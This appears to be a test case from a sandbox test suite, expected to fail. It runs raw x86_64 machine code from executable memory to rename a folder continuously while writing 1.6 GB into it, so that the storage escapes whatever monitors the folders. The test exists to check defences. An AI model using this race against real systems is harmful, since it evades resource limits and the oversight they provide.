# expect: not-success
# timeout: 20
# where: x86_64
# what: a folder that has another name each time somebody wants to look into it
# Renamed a million times a second by machine code, since Python would make pauses.
CODE = bytes.fromhex(  # rename(names[i], names[i + 1]), i around the table, until the word at rdx is not 0
    "5355415441554889fb4889f54989d44531ed4d8d45014939e872034531c04a8b3c"
    "eb4a8b34c34d89c5b8520000000f0549833c240074db415d415c5d5bc3"
)
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(CODE)
names = (ctypes.c_char_p * 400)(*[b"n%d" % number for number in range(400)])
stop = ctypes.c_long(0)
swap = ctypes.CFUNCTYPE(None, ctypes.c_void_p, ctypes.c_long, ctypes.c_void_p)(
    ctypes.addressof(ctypes.c_char.from_buffer(area))
)
os.mkdir("n0", 0o700)
inside = os.open("n0", os.O_RDONLY | os.O_DIRECTORY)
threading.Thread(target=swap, args=(ctypes.addressof(names), 400, ctypes.addressof(stop))).start()
block = b"x" * (1 << 20)
for number in range(40):
    file = os.open(f"f{number}", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=inside)
    for _ in range(40):
        os.write(file, block)
    os.close(file)
stop.value = 1
breach("1.6 GB in a folder that nobody looked into")
